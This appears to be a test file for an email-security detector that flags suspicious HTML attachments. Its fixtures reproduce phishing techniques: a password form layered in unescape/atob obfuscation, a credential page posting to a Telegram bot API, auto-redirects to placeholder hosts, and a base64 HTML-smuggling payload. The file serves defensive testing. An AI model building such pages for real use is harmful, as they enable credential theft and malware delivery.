import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { runDetector } from '../../pipeline/testing.ts';
import { messageWith } from './fixture-message.ts';
import { htmlAttachmentDetector } from './html-attachment.ts';
import { unwrap } from './html-content.ts';

const page = (content: string, filename = 'Document.html') =>
  runDetector(htmlAttachmentDetector, messageWith({ parts: [{ filename, contentType: 'text/html', content }] }));

describe('unwrap', () => {
  it('peels nested unescape and atob layers', () => {
    const inner = `<input type="password" name="pw">${' '.repeat(200)}`;
    const layer = `document.write(atob('${Buffer.from(inner).toString('base64')}'))`;
    const outer = `unescape('${[...layer].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}')`;
    assert.match(unwrap(outer), /type="password"/);
  });
});

describe('attachments.html', () => {
  it('finds credentials sent to a Telegram bot from a page without a form action', async () => {
    const hits = await page(
      '<html><body><input type="email" name="email"><input type="password" name="pass"><script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script></body></html>',
    );
    assert.deepEqual(hits.get('ATT_HTML_CREDENTIAL_FORM')?.evidence, ['Document.html: password field, sent via Telegram bot']);
  });

  it('finds a page that sends the browser elsewhere, directly or by clicking its own link', async () => {
    const direct = await page('<html><head><meta http-equiv="refresh" content="0; url=https://portal.example.net/login"></head></html>');
    assert.deepEqual(direct.get('ATT_HTML_REDIRECT')?.evidence, ['Document.html: to portal.example.net']);
    const clicked = await page(
      '<html><body onload="document.getElementById(\'go\').click();"><a id="go" href="https://prize.example.net/claim">Open</a></body></html>',
    );
    assert.deepEqual(clicked.get('ATT_HTML_REDIRECT')?.evidence, ['Document.html: to prize.example.net']);
  });

  it('finds a large embedded binary payload in a data: URI', async () => {
    const payload = Buffer.alloc(3000, 7).toString('base64');
    const hits = await page(`<html><body><a href="data:application/octet-stream;base64,${payload}" download>Get file</a></body></html>`);
    assert.match(hits.get('ATT_HTML_SMUGGLING')?.evidence[0] ?? '', /embedded octet-stream payload/);
  });

  it('only notes the file for a plain HTML receipt', async () => {
    const hits = await page(
      '<!DOCTYPE html><html><head><title>Receipt</title></head><body><h1>Thank you for your order</h1><img src="https://shop.example.com/logo.png"><p>Total: EUR 42.00</p></body></html>',
      'receipt.html',
    );
    assert.deepEqual([...hits.keys()], ['ATT_HTML_FILE']);
  });
});
